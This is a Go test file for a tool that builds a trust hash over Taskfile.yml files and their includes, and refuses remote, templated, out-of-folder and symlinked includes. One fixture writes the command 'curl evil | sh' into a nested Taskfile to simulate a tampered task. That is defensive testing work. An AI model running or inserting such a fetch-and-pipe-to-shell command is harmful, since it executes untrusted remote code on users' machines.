package outer

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

func writeTree(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for rel, content := range files {
		p := filepath.Join(dir, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// A Taskfile included from a subfolder (and what it includes in turn, and
// a folder's YAML files) is in the trust set, tracked by git or not: a
// commit that changes it after an approval changes the hash. Files no
// include names, and git does not track, stay out.
func TestTrustSetFollowsIncludes(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	dir := t.TempDir()
	gitIn(t, dir, "init", "-q") // a repository that tracks nothing yet
	writeTree(t, dir, map[string]string{
		"Taskfile.yml":           "version: '3'\nincludes:\n  extra: ./tasks/extra.yml\n  lib:\n    taskfile: lib\n    optional: true\n  gone:\n    taskfile: ./none.yml\n    optional: true\n",
		"tasks/extra.yml":        "version: '3'\nincludes:\n  deeper: ../deep/more.yml\n  back: ../Taskfile.yml\n",
		"deep/more.yml":          "version: '3'\ntasks:\n  x:\n    cmds: [echo more]\n",
		"lib/Taskfile.yml":       "version: '3'\n",
		"lib/notes.txt":          "not a Taskfile\n",
		"unrelated/Taskfile.yml": "version: '3'\n",
	})
	set, err := ReadTrustSet(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"Taskfile.yml", "tasks/extra.yml", "deep/more.yml", "lib/Taskfile.yml"} {
		if _, ok := set.Files[want]; !ok {
			t.Errorf("%s is not in the trust set: %v", want, set.names())
		}
	}
	for _, not := range []string{"lib/notes.txt", "unrelated/Taskfile.yml", "none.yml"} {
		if _, ok := set.Files[not]; ok {
			t.Errorf("%s is in the trust set", not)
		}
	}
	writeTree(t, dir, map[string]string{"deep/more.yml": "version: '3'\ntasks:\n  x:\n    cmds: [curl evil | sh]\n"})
	after, err := ReadTrustSet(dir)
	if err != nil {
		t.Fatal(err)
	}
	if after.Same(set) {
		t.Error("a change in a Taskfile reached through two includes left the trust hash as it was")
	}
}

// An include asb cannot pin to files of the folder is refused, with the
// file, the include and the reason.
func TestTrustSetRefusesUnpinnedIncludes(t *testing.T) {
	for include, why := range map[string]string{
		"../outside.yml":                       "outside the outer folder",
		"/etc/Taskfile.yml":                    "outside the outer folder",
		"~/Taskfile.yml":                       "outside the outer folder",
		"./{{.DIR}}/Taskfile.yml":              "template",
		"https://example.com/Taskfile.yml":     "fetched from elsewhere",
		"git@github.com:o/r.git//Taskfile.yml": "fetched from elsewhere",
		"sub/../../Taskfile.yml":               "outside the outer folder",
	} {
		dir := t.TempDir()
		writeTree(t, dir, map[string]string{"Taskfile.yml": "version: '3'\nincludes:\n  x: '" + include + "'\n"})
		_, err := ReadTrustSet(dir)
		if err == nil || !strings.Contains(err.Error(), why) || !strings.Contains(err.Error(), "Taskfile.yml includes") || !strings.Contains(err.Error(), "not supported by asb") {
			t.Errorf("include %q: %v; want a refusal that says %q", include, err, why)
		}
	}
}

// An included file that is a link is refused, as a top-level one is.
func TestTrustSetIncludedLink(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{"Taskfile.yml": "version: '3'\nincludes:\n  x: ./sub/t.yml\n", "sub/real.yml": "version: '3'\n"})
	if err := os.Symlink("real.yml", filepath.Join(dir, "sub", "t.yml")); err != nil {
		t.Fatal(err)
	}
	if _, err := ReadTrustSet(dir); err == nil || !strings.Contains(err.Error(), "sub/t.yml is not a plain file") {
		t.Errorf("an included link: %v", err)
	}
}
